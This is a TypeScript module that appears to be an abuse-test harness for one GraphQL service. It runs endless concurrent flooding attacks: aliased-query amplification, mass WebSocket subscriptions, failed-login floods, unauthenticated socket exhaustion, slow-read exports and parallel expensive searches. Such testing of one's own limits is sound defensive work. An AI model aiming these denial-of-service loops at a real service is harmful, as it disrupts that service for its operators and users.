/** Where the attacked API is, and the access token of the attacker, a tenant's administrator. */
export interface Target {
  readonly url: string;
  readonly token: string;
  readonly appIds: readonly string[];
}

/** Each goes on until its thread is ended. */
export const attacks: Readonly<Record<string, (target: Target) => Promise<void>>> = {
  "38 aliases of a list": (target) => without(8, () => ask(target, aliases(38))),
  "10 sockets of 100 subscriptions": (target) => without(10, () => follow(target, 100)),
  "60 anonymous logins": (target) => without(60, () => logIn(target)),
  "1,000 sockets without a token": (target) => without(1000, () => openSocket(target)),
  "10 exports that are not read": (target) => without(10, () => exportUnread(target)),
  "a slow search, 16 at once": (target) => without(16, () => ask(target, search)),
};

/** So many callers, each beginning again without a pause; refusals are what an attacker expects. */
async function without(callers: number, call: () => Promise<unknown>): Promise<void> {
  const caller = async () => {
    for (;;) {
      await call().catch(() => {});
      // A refusal may come at once: leave the other callers of the thread their turn.
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
  };
  await Promise.all(Array.from({ length: callers }, caller));
}

function aliases(count: number): string {
  const list = (n: number) =>
    `a${n}: ledgerEntries(first: 500) { totalCount nodes { createdAt tokensChange } }`;
  return `{ ${Array.from({ length: count }, (_, n) => list(n)).join(" ")} }`;
}

const search = `{
  searchAudit(since: "2020-01-01T00:00:00Z", until: "2100-01-01T00:00:00Z", containing: "zzz") {
    totalCount nodes { logId newValues }
  }
}`;

async function ask({ url, token }: Target, query: string): Promise<void> {
  const headers = { "content-type": "application/json", authorization: `Bearer ${token}` };
  const body = JSON.stringify({ query });
  await (await fetch(`${url}/graphql`, { method: "POST", headers, body })).text();
}

async function logIn({ url }: Target): Promise<void> {
  const query = `mutation { login(input: {
    tenant: "attacker", email: "${crypto.randomUUID()}@example.org", password: "wrong wrong wrong"
  }) { accessToken } }`;
  const headers = { "content-type": "application/json" };
  const body = JSON.stringify({ query });
  await (await fetch(`${url}/graphql`, { method: "POST", headers, body })).text();
}

function openSocket(
  { url }: Target,
  use: (socket: WebSocket) => void = () => {},
): Promise<unknown> {
  const socket = new WebSocket(new URL("/graphql", url.replace("http", "ws")), [
    "graphql-transport-ws",
  ]);
  socket.onopen = () => use(socket);
  return new Promise((resolve) => {
    socket.onclose = resolve;
    socket.onerror = resolve;
  });
}

function follow(target: Target, subscriptions: number): Promise<unknown> {
  return openSocket(target, (socket) => {
    const send = (message: object) => socket.send(JSON.stringify(message));
    const payload = { authorization: `Bearer ${target.token}` };
    send({ type: "connection_init", payload });
    socket.onmessage = ({ data }) => {
      if (JSON.parse(data).type !== "connection_ack") return;
      for (let n = 0; n < subscriptions; n += 1) {
        const appId = target.appIds[n % target.appIds.length];
        const query = `subscription { applicationStatus(appId: "${appId}") { at application { name } } }`;
        send({ id: String(n), type: "subscribe", payload: { query } });
      }
    };
  });
}

async function exportUnread({ url, token }: Target): Promise<void> {
  const span = "since=2020-01-01T00:00:00Z&until=2100-01-01T00:00:00Z";
  const headers = { authorization: `Bearer ${token}` };
  const answer = await fetch(`${url}/export/audit.csv?${span}`, { headers });
  if (!answer.ok) return;
  const reader = answer.body?.getReader();
  await reader?.read();
  // The rest stays unread until the server ends it.
  await new Promise((resolve) => setTimeout(resolve, 5_000));
  await reader?.cancel();
}
